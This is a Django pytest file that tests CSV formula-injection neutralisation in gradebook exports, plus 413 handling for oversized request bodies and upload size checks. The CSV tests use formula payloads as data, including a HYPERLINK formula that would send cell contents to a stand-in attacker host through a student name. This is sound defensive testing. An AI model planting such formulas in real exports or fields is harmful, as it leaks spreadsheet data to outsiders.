"""CSV exports never carry a live formula; oversized bodies get 413 before they are read; uploads are
size-checked before they are read.

Alice exports her gradebook; Mallory joined through an LMS with the name "=HYPERLINK(...)".
"""

import csv
import http.client
import io
import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from learning.exports.spreadsheet import csv_bytes, csv_cell_safe
from learning.models import User
from tests.factories import MembershipFactory, StudentFactory
from tests.factories_classes import AssignmentFactory

MB = 1024 * 1024


# --- CSV injection -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, expected",
    [
        ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+84 123", "'+84 123"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Nguyễn Văn An", "Nguyễn Văn An"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_that_would_start_a_formula_gets_a_quote(value, expected):
    assert csv_cell_safe(value) == expected


def test_csv_bytes_keeps_the_bom_and_quotes_every_formula_cell():
    data = csv_bytes([["name"], ["=1+1"], ["Bình"]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == [["name"], ["'=1+1"], ["Bình"]]


@pytest.mark.django_db
def test_the_gradebook_csv_neutralises_names_titles_and_comments(client, api, alice, classroom):
    mallory = StudentFactory(
        username="mallory", first_name='=HYPERLINK("http://evil.example/?x="&A1,"Xem")', last_name="@SUM(A1:A9)"
    )
    MembershipFactory(classroom=classroom, student=mallory)
    AssignmentFactory(classroom=classroom, title="+Bài đọc")
    client.force_login(alice)

    page_csv = client.get(f"/classes/{classroom.pk}/gradebook.csv")
    api_csv = api(alice).get(f"/api/v1/classes/{classroom.pk}/gradebook/?format=csv")

    content = b"".join(page_csv.streaming_content)
    assert page_csv.status_code == 200 and b"".join(api_csv.streaming_content) == content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0][3].startswith("'+Bài đọc")
    row = {r[2]: r for r in rows[1:]}["mallory"]
    assert row[0] == "'@SUM(A1:A9)" and row[1].startswith("'=HYPERLINK(")
    for cells in rows:
        for cell in cells:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# --- 413 before reading ------------------------------------------------------------------------------


class Unreadable(io.RawIOBase):
    """A request body that fails the test if anything reads it."""

    def read(self, *args):
        raise AssertionError("the body was read")

    readline = read


@pytest.mark.django_db
def test_a_100_mb_multipart_post_to_simulations_is_refused_unread(api, bob):
    response = api(bob).generic(
        "POST",
        "/api/v1/simulations/",
        "",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH=str(100 * MB),
        CONTENT_TYPE="multipart/form-data; boundary=x",
        HTTP_ACCEPT_LANGUAGE="en",
        **{"wsgi.input": Unreadable()},
    )
    assert response.status_code == 413
    assert response.json() == {"detail": "The request is too large: at most 2 MB may be sent here."}


@pytest.mark.django_db
def test_a_json_body_over_the_limit_is_413_in_the_error_shape(api, bob, settings):
    body = json.dumps({"username": "bob", "password": "x" * (2 * MB)})
    response = api(None).post("/api/v1/auth/token/", body, content_type="application/json")
    assert response.status_code == 413 and "detail" in response.json()
    assert "2 MB" in response.json()["detail"]


@pytest.mark.django_db
def test_an_upload_endpoint_takes_up_to_the_upload_limit_then_413(client, alice, classroom):
    client.force_login(alice)
    url = f"/classes/{classroom.pk}/import/"
    big = client.generic(
        "POST",
        url,
        "",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH=str(11 * MB),
        CONTENT_TYPE="multipart/form-data; boundary=x",
        **{"wsgi.input": Unreadable()},
    )
    assert big.status_code == 413 and big["Content-Type"].startswith("text/html")
    assert "Yêu cầu quá lớn" in big.text and "10 MB" in big.text
    # 3 MB of multipart is over the JSON/form limit but fine for an upload endpoint: the file check answers.
    upload = SimpleUploadedFile("lop.csv", b"a,b,c\n" * (MB // 2), content_type="text/csv")
    checked = client.post(url, {"file": upload}, HTTP_ACCEPT_LANGUAGE="en")
    assert checked.status_code == 400 and "larger than 256 kB" in checked.text


@pytest.mark.django_db
def test_form_fields_over_the_memory_limit_are_413_not_400(client, alice, settings):
    client.force_login(alice)
    response = client.post("/documents/import/", {"text": "x" * (3 * MB)})  # multipart, no file
    assert response.status_code == 413


@pytest.mark.django_db
def test_every_upload_is_size_checked_with_one_message(api, alice, classroom):
    roster = SimpleUploadedFile("lop.csv", b"x" * (300 * 1024), content_type="text/csv")
    response = api(alice).post(
        f"/api/v1/classes/{classroom.pk}/students/import/", {"file": roster}, HTTP_ACCEPT_LANGUAGE="en"
    )
    assert response.status_code == 400 and response.json() == {"file": ["The file is larger than 256 kB."]}
    document = SimpleUploadedFile("doc.md", b"# T\n" + b"x" * (MB + 10), content_type="text/markdown")
    response = api(alice).post("/api/v1/documents/", {"file": document}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400 and response.json()["file"] == ["The file is larger than 1 MB."]
    assert User.objects.count() == 2  # alice, bob: nothing imported


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.fixture
def gunicorn_server():
    """The production web server (gunicorn, sync worker) on this project; the refused request needs no database."""
    port = _free_port()
    root = Path(__file__).resolve().parents[2]
    proc = subprocess.Popen(
        [sys.executable, "-m", "gunicorn", "-b", f"127.0.0.1:{port}", "-w", "1", "config.wsgi"],
        cwd=root,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env={**os.environ, "DJANGO_SETTINGS_MODULE": "config.settings"},
    )
    try:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
                break
            except OSError:
                time.sleep(0.1)
        yield port
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def test_a_real_server_answers_413_without_waiting_for_the_body(gunicorn_server):
    """Headers announcing 100 MB, then silence: the answer comes at once, so nothing waited to read the body."""
    conn = http.client.HTTPConnection("127.0.0.1", gunicorn_server, timeout=10)
    started = time.monotonic()
    conn.putrequest("POST", "/api/v1/simulations/")
    conn.putheader("Content-Type", "multipart/form-data; boundary=x")
    conn.putheader("Content-Length", str(100 * MB))
    conn.endheaders()
    conn.send(b"--x\r\n")
    response = conn.getresponse()
    elapsed = time.monotonic() - started
    assert response.status == 413 and elapsed < 5
    assert json.loads(response.read())["detail"]
    conn.close()
